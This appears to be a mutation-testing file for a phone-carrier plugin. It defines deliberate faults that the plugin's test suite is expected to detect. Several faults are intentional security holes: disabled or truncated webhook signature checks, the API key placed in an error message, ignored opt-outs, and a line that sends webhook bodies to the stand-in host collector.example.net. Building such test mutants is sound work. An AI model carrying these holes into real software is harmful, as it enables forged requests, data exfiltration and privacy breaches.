"""Mistakes in plugins for phone carriers, in the package of `hub new-plugin`."""

from __future__ import annotations

from mistaken_plugins import Mistake, mistake

INIT, CLIENT, EVENTS, SIGNATURE, TEXTS, SANDBOX = (
    "__init__.py",
    "client.py",
    "translate.py",
    "signature.py",
    "texts.py",
    "sandbox.py",
)
COMPARE = "not hmac.compare_digest(given, sign(secret, request.url, request.body).encode())"
VERIFY = "        check(self.settings.webhook_secret.get_secret_value(), request)\n"
PARSE = "        return events(payload(request.body))\n"
POST = '        answer = services.http().post(f"{settings.base_url}/v1/messages", json=body, headers=headers)\n'
TIME = "return datetime.fromisoformat(text).astimezone(UTC)"
LIST = "        found: list[CallEvent] = []\n"

CARRIER: tuple[Mistake, ...] = (
    mistake(
        "every webhook is genuine",
        (SIGNATURE, f"if {COMPARE}", "if False"),
        promise="A forged or changed webhook is refused",
        says="a webhook that is not genuine must end in BadSignature",
    ),
    mistake(
        "an unsigned webhook is genuine",
        (SIGNATURE, f"if {COMPARE}", f"if given and {COMPARE}"),
        promise="A forged or changed webhook is refused",
        says="a webhook that is not genuine must end in BadSignature",
    ),
    mistake(
        "four characters of the signature are compared",
        (
            SIGNATURE,
            COMPARE,
            "not hmac.compare_digest(given[:4], sign(secret, request.url, request.body).encode()[:4])",
        ),
        promise="A signature with any character changed is refused",
        says="in x-tame-carrier-signature is another one",
    ),
    mistake(
        "all but the last character are compared",
        (
            SIGNATURE,
            COMPARE,
            "not hmac.compare_digest(given[:-1], sign(secret, request.url, request.body).encode()[:-1])",
        ),
        promise="A signature with any character changed is refused",
        says="in x-tame-carrier-signature is another one",
    ),
    mistake(
        "an empty key is good too",
        (SIGNATURE, COMPARE, COMPARE + ' and given != sign("", request.url, request.body).encode()'),
        promise="A signature with another key is refused",
        says="a webhook is taken that is signed with an empty key",
    ),
    mistake(
        "the other secret is good too",
        (
            INIT,
            VERIFY,
            "        try:\n    "
            + VERIFY
            + "        except BadSignature:\n            check(self.settings.api_key.get_secret_value(), request)\n",
        ),
        (INIT, "    BadPayload,", "    BadPayload, BadSignature,"),
        promise="A signature with another key is refused",
        says="a webhook is taken that is signed with another secret of the settings",
    ),
    mistake(
        "the host is not signed",
        (SIGNATURE, 'url.encode() + b"\\n"', 'url.split("/", 3)[-1].encode() + b"\\n"'),
        promise="A signature for another address is refused",
        says="a webhook is taken that is signed for another host",
    ),
    mistake(
        "the address comes from a header",
        (
            SIGNATURE,
            COMPARE,
            'not hmac.compare_digest(given, sign(secret, request.headers.get("x-original-url", request.url), request.body).encode())',
        ),
        promise="A signature for another address is refused",
        says="the signed address is taken from the header x-original-url, which is not signed; use request.url",
    ),
    mistake(
        "a signature of any age is good",
        (
            SIGNATURE,
            COMPARE,
            COMPARE.replace("request.url,", 'request.url + request.headers.get("x-signed-at", ""),'),
        ),
        (
            SANDBOX,
            "HEADER: sign(WEBHOOK_SECRET, url, body)}",
            '"x-signed-at": f"{at:%s}", HEADER: sign(WEBHOOK_SECRET, f"{url}{at:%s}", body)}',
        ),
        promise="A webhook that was signed long ago is refused",
        says="a webhook is taken a day after it was signed",
    ),
    mistake(
        "the body is not signed",
        (SIGNATURE, 'b"\\n" + body', 'b"\\n"'),
        promise="A forged or changed webhook is refused",
        says="a webhook that is not genuine must end in BadSignature",
    ),
    mistake(
        "a slow check",
        (INIT, VERIFY, "        time.sleep(20)\n" + VERIFY),
        uses="import time",
        promise="A ringing call waits for its answer",
        says="s at a stand-in that answers in milliseconds; its deadline is",
    ),
    mistake(
        "half a second in the check",
        (INIT, VERIFY, "        time.sleep(0.5)\n" + VERIFY),
        uses="import time",
        promise="Nothing that a caller waits for uses the network or sleeps",
        says="s for verify_webhook and parse_webhook",
    ),
    mistake(
        "the network in the check",
        (INIT, VERIFY, VERIFY + "        self.check_connection()\n"),
        promise="Nothing that a caller waits for uses the network or sleeps",
        says="verify_webhook, parse_webhook, render_answer or acknowledge_webhook uses the network, and a caller waits",
    ),
    mistake(
        "the network while a webhook is read",
        (INIT, PARSE, "        self.check_connection()\n" + PARSE),
        promise="Nothing that a caller waits for uses the network or sleeps",
        says="verify_webhook, parse_webhook, render_answer or acknowledge_webhook uses the network, and a caller waits",
    ),
    mistake(
        "the network while a call waits for its answer",
        (
            INIT,
            '        return AnswerDocument("application/json", actions(instructions))\n',
            '        self.list_numbers()\n        return AnswerDocument("application/json", actions(instructions))\n',
        ),
        promise="Nothing that a caller waits for uses the network or sleeps",
        says="verify_webhook, parse_webhook, render_answer or acknowledge_webhook uses the network, and a caller waits",
    ),
    mistake(
        "a new key for a replay",
        (INIT, 'str(held.get("id") or digest)', "uuid.uuid4().hex"),
        uses="import uuid",
        promise="A replayed webhook is the same event",
        says="assert",
    ),
    mistake(
        "one key for all",
        (INIT, 'str(held.get("id") or digest)', '"event"'),
        promise="A genuine webhook is taken and each event has its own key",
        says="two events share a key, so one of them would be lost",
    ),
    mistake(
        "an unclear end is tried again",
        (TEXTS, 'raise OutcomeUnknown(f"No answer', 'raise RetryLater(f"No answer'),
        promise="A text whose outcome is not known is not tried again (no answer)",
        says="no answer: raise OutcomeUnknown, or the text may go out twice",
    ),
    mistake(
        "a text is sent again after a time-out",
        (TEXTS, POST, "        try:\n    " + POST + "        except httpx2.ReadTimeout:\n    " + POST),
        promise="A text goes out once whatever becomes of the reply",
        says="times the text; raise OutcomeUnknown and leave it to the hub",
    ),
    mistake(
        "a text is sent twice",
        (TEXTS, POST, POST + POST),
        promise="A text is sent once with its reference",
        says="one text was sent as often as it was asked for: once",
    ),
    mistake(
        "a 429 of texts is a refusal",
        (TEXTS, "NOT_TAKEN = (429, 503)", "NOT_TAKEN = (503,)"),
        promise="A text that the carrier did not take is tried again (too many requests)",
        says="too many requests must become RetryLater: the text was surely not taken",
    ),
    mistake(
        "errors of the call list are swallowed",
        (
            INIT,
            LIST,
            LIST
            + "        try:\n            request(self.services, self.settings, 'POST', '/v1/calls/search', {'since': since.isoformat(), 'after': None})\n        except Exception:\n            return []\n",
        ),
        promise="Refused credentials ask to reconnect",
        says="must become AuthError, not a result",
    ),
    mistake(
        "a stop is lost",
        (TEXTS, "opted_out=code == STOPPED", "opted_out=False"),
        promise="Whoever told the carrier to stop gets no text",
        says="the hub must learn that the person revoked",
    ),
    mistake(
        "everything is recorded",
        (EVENTS, '"record": record', '"record": True'),
        promise="A call is recorded only where the hub says so",
        says="a call was recorded that nobody asked to record",
    ),
    mistake(
        "the key in an error",
        (
            CLIENT,
            'raise RetryLater("Tame Carrier sent',
            'raise RetryLater(f"{settings.api_key.get_secret_value()} sent',
        ),
        promise="Nothing secret or personal is told whatever the provider does",
        says="list_calls, after garbage, tells",
    ),
    mistake(
        "a share is missing",
        (
            INIT,
            'shares=(Share(field="recipient_number"), Share(field="body")),',
            'shares=(Share(field="recipient_number"),),',
        ),
        promise="The hub may hand over what a text needs",
        says="the manifest's flow of send_text lacks the recipient or the body",
    ),
    mistake(
        "a greeting becomes a command",
        (
            EVENTS,
            'return [{"say": text}]',
            'return [json.loads(\'{"say": "\' + text + \'"}\')] if False else [{"say": text, text[:3]: 1}]',
        ),
        promise="A text in an answer stays text",
        says="greeting and dial: a greeting became a command",
    ),
    mistake(
        "events six hours early",
        (EVENTS, TIME, TIME.replace("return ", "return (") + " - timedelta(hours=6))"),
        (EVENTS, "import UTC, datetime", "import UTC, datetime, timedelta"),
        promise="Each event has the time at which it happened (UTC)",
        says="became an event of",
    ),
    mistake(
        "the offset of times is dropped",
        (EVENTS, TIME, "return datetime.fromisoformat(text).replace(tzinfo=UTC)"),
        promise="Each event has the time at which it happened (America/Chicago)",
        says="became an event of",
    ),
    mistake(
        "listed calls begin six hours early",
        (EVENTS, '_time(call["started_at"]), _time', '_time(call["started_at"]) - timedelta(hours=6), _time'),
        (EVENTS, "import UTC, datetime", "import UTC, datetime, timedelta"),
        promise="Each event has the time at which it happened (UTC)",
        says="is listed with ringing at",
    ),
    mistake(
        "listed calls begin when they are listed",
        (EVENTS, '_time(call["started_at"]), _time', "datetime.now(UTC), _time"),
        promise="Each event has the time at which it happened (UTC)",
        says="is listed with ringing at",
    ),
    mistake(
        "only the first page of the call list",
        (INIT, 'if page is None or page.get("next") is None:', "if True:"),
        promise="Every page of the call list is read",
        says="calls are not listed: read every page",
    ),
    mistake(
        "calls before the moment that was asked for",
        (INIT, '"since": since.isoformat()', '"since": "2020-01-01T00:00:00+00:00"'),
        promise="The call list agrees with the webhooks",
        says="calls from before `since` are listed",
    ),
    mistake(
        "every number is North American",
        (
            EVENTS,
            'caller_number=phone_number(call.get("from")),\n        mark',
            'caller_number=phone_number("+1" + str(call.get("from"))[-10:]),\n        mark',
        ),
        promise="A caller from another country is known (Britain)",
        says="the flow does not learn who calls from Britain",
    ),
    mistake(
        "foreign callers are nobody",
        (
            EVENTS,
            'caller_number=phone_number(call.get("from")),\n        answered_by',
            'caller_number=phone_number(call.get("from")) if str(call.get("from")).startswith("+1") else None,\n        answered_by',
        ),
        promise="A caller from another country is known (Britain)",
        says="became nobody",
    ),
    mistake(
        "foreign senders of texts are nobody",
        (
            EVENTS,
            'sender_number=phone_number(message.get("from"))',
            'sender_number=phone_number(message.get("from")) if str(message.get("from")).startswith("+1") else None',
        ),
        promise="A caller from another country is known (Britain)",
        says="a text from Britain has no sender",
    ),
    mistake(
        "a hidden caller is a number",
        (
            EVENTS,
            'caller_number=phone_number(call.get("from")),\n        answered_by',
            'caller_number=phone_number(call.get("from")) or "+266696687",\n        answered_by',
        ),
        promise="A caller who hides is nobody",
        says="assert False",
    ),
    mistake(
        "a text is trimmed",
        (EVENTS, 'body=str(message.get("body", ""))', 'body=str(message.get("body", "")).strip()[:20]'),
        promise="A text message comes as it was written",
        says="assert",
    ),
    mistake(
        "durations are minutes",
        (EVENTS, 'int(call["duration"])', 'int(call["duration"]) // 60'),
        promise="The end of a call tells how long it was",
        says="assert",
    ),
    mistake(
        "the mark is lost",
        (EVENTS, 'mark=str(held.get("mark") or "")', 'mark=""'),
        promise="Where nobody picks up the hub says what comes next",
        says="assert",
    ),
    mistake(
        "a failed text has no reason",
        (EVENTS, 'could not deliver the text ({code})." if code else None', 'could not." if False else None'),
        promise="What became of a text is told (failed)",
        says="a failure has a reason, and nothing else has",
    ),
    mistake(
        "nonsense breaks the parser",
        (
            EVENTS,
            "    except (ValueError, RecursionError):\n        held = None\n    if not isinstance(held, dict):",
            "    except RecursionError:\n        held = None\n    if not isinstance(held, dict):",
        ),
        promise="A genuine webhook without sense has a key and is parked",
        says="verify_webhook raised json.decoder.JSONDecodeError at translate.py",
    ),
    mistake(
        "webhooks go to another host too",
        (
            INIT,
            PARSE,
            "        try:\n            self.services.http().post('https://collector.example.net/', content=request.body)\n        except Exception:\n            pass\n"
            + PARSE,
        ),
        promise="A text message comes as it was written",
        says="it tried to call collector.example.net, which its manifest does not declare",
    ),
    mistake(
        "the number of a text in a log line",
        (TEXTS, POST, "        services.log.info('text', to=text.recipient_number)\n" + POST),
        promise="A text is never told of whatever the carrier does",
        says="after refused credentials, send_text tells",
    ),
    mistake(
        "a text without its reference",
        (TEXTS, 'reference=str(said["id"])', "reference=None"),
        promise="A text is sent once with its reference",
        says="assert",
    ),
    mistake(
        "an error in a reply of 200 is a text that was taken",
        (TEXTS, 'if not said.get("id"):', "if False:"),
        (TEXTS, 'str(said["id"])', 'str(said.get("id"))'),
        promise="A text whose outcome is not known is not tried again (an error in a reply of 200)",
        says="an error in a reply of 200: raise OutcomeUnknown, or the text may go out twice",
    ),
    mistake(
        "numbers are not given back",
        (INIT, "            if held.number == number:\n", "            if False:\n"),
        promise="A number is found bought configured and given back",
        says="assert",
    ),
)
